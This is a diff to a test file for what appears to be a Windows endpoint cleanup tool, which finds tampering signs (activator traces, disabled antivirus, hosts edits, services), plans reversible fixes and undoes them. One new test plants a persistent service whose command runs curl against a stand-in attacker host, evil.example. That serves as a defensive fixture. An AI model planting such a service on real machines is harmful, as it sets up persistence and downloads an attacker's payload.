@@ -9,6 +9,7 @@ import pytest
 
 from quetsach.endpoint.act import grounds, journal, runs, undoing
 from quetsach.endpoint.verdict import Verdict
+from tests.endpoint import world
 from tests.endpoint.act import disks
 
 CLEANED = (
@@ -16,7 +17,8 @@ CLEANED = (
     "SVC-01", "SVC-02", "DIR-01", "AV-01", "AV-03", "HST-01", "HST-02", "HST-03", "HST-04", "HST-06", "FW-02",
     "ADS-01", "JBR-01", "DNG-01", "AVK-01", "GEN-02", "PER-01",
 )  # fmt: skip
-"""Signs that a plan removes by itself."""
+"""Signs that a plan removes by itself, or, below Windows, when it is asked to."""
+BELOW_WINDOWS = {"HOOK-02"}
 LEFT = ("KMS-04", "LIC-07", "TASK-03", "UNI-01", "PSH-01", "IDM-01", "PER-02", "PER-06")
 """Strong signs that only a person can settle."""
 
@@ -26,7 +28,9 @@ def test_every_sign_that_can_be_taken_away_is_and_comes_back_to_the_bit(sign: st
     root = disks.windows(tmp_path / "disk", sign)
     before = disks.snapshot(root)
     assert disks.look(root).verdict in (Verdict.FOUND, Verdict.CHECK)
-    one = disks.planned(root)
+    if sign in BELOW_WINDOWS:
+        assert "unjudged" in {advice.reason for advice in disks.planned(root).advice}
+    one = disks.planned(root, *({sign} & BELOW_WINDOWS))
     assert [step.why for step in one.steps if sign in step.why]
     assert disks.snapshot(root) == before, "a plan changes nothing"
     outcome = disks.applied(root, one)
@@ -43,6 +47,21 @@ def test_what_only_a_person_can_settle_is_left_to_one(sign: str, tmp_path: Path)
     one = disks.planned(disks.windows(tmp_path / "disk", sign))
     assert not one.steps
     assert sign in {advice.why for advice in one.advice}
+
+
+def test_a_service_that_calls_a_listed_address_is_switched_off_and_comes_back(tmp_path: Path) -> None:
+    image = r"C:\Windows\System32\cmd.exe /c curl http://evil.example/a"
+    told = world.planted({"registry": {rf"{world.SERVICES}\cap": {"ImagePath": image, "Start": 2}}})
+    root = world.tree(told, tmp_path / "disk")
+    before = disks.snapshot(root)
+    one = disks.planned(root)
+    assert [(step.act, step.target["name"], step.why) for step in one.steps] == [
+        ("value", "Start", ("evil.example",))
+    ]
+    assert not disks.applied(root, one).failed
+    assert disks.look(root).verdict is Verdict.TRACES
+    undoing.undo(grounds.at(root))
+    assert disks.snapshot(root) == before
 
 
 def test_a_question_is_taken_into_the_plan_only_when_it_is_asked_for(tmp_path: Path) -> None:
@@ -105,7 +124,7 @@ def test_several_signs_in_one_key_and_one_file(tmp_path: Path) -> None:
     signs = ("KMS-01", "KMS-03", "AV-01", "AV-03", "HST-01", "TASK-01", "SVC-01", "HOOK-02")
     root = disks.windows(tmp_path / "disk", *signs)
     before = disks.snapshot(root)
-    assert not disks.applied(root, disks.planned(root)).failed
+    assert not disks.applied(root, disks.planned(root, "HOOK-02")).failed
     assert disks.look(root).verdict is Verdict.CLEAN
     undoing.undo(grounds.at(root))
     assert disks.snapshot(root) == before
